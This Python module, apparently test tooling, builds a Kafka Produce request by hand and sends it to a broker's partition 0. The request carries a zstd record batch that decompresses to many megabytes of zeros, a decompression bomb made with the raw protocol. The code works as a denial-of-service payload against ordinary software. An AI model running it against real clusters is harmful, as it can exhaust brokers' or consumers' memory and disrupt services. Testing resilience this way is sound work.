"""A batch that unpacks to far more than it takes in the log, written with the protocol alone.

No producer makes one: it would have to hold what is packed.
"""

from __future__ import annotations

import socket
import struct

import zstandard
from kafka.record.util import calc_crc32c, encode_varint

_PIECE = bytes(1 << 20)
_PRODUCE, _VERSION = 0, 7  # the first version that takes zstd


def write_bomb(bootstrap: str, topic: str, megabytes: int, records: int = 1) -> int:
    """Write a zstd batch to partition 0: records of zeros, so many MiB each; return its size."""
    batch = _batch(megabytes, records)
    name = topic.encode()
    body = struct.pack(">hhi", -1, -1, 30_000)  # no transaction; all replicas; ms to wait
    body += struct.pack(">ih", 1, len(name)) + name + struct.pack(">iii", 1, 0, len(batch)) + batch
    request = struct.pack(">hhih4s", _PRODUCE, _VERSION, 1, 4, b"test") + body
    host, port = bootstrap.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=120) as sock:
        sock.sendall(struct.pack(">i", len(request)) + request)
        with sock.makefile("rb") as answer:
            (size,) = struct.unpack(">i", answer.read(4))
            reply = answer.read(size)
    at = 4 + 4 + 2 + len(name) + 4 + 4  # correlation, topics, the topic's name, partitions, number
    (error,) = struct.unpack_from(">h", reply, at)
    assert error == 0, f"the broker refuses the batch: error {error}"
    return len(batch)


def _batch(megabytes: int, records: int) -> bytes:
    size = megabytes * len(_PIECE)
    packer = zstandard.ZstdCompressor().compressobj()
    packed = b""
    for number in range(records):
        head = _varints(0, 0, number, -1, size)  # attributes, time, offset, no key, the value
        packed += packer.compress(_varints(len(head) + size + 1) + head)
        for _ in range(megabytes):
            packed += packer.compress(_PIECE)
        packed += packer.compress(_varints(0))  # no headers
    packed += packer.flush()
    last, now = records - 1, 1_600_000_000_000
    checked = struct.pack(">hiqqqhii", 4, last, now, now, -1, -1, -1, records) + packed
    after = struct.pack(">iBI", -1, 2, calc_crc32c(checked)) + checked
    return struct.pack(">qi", 0, len(after)) + after


def _varints(*numbers: int) -> bytes:
    written = bytearray()
    for number in numbers:
        encode_varint(number, written.append)
    return bytes(written)
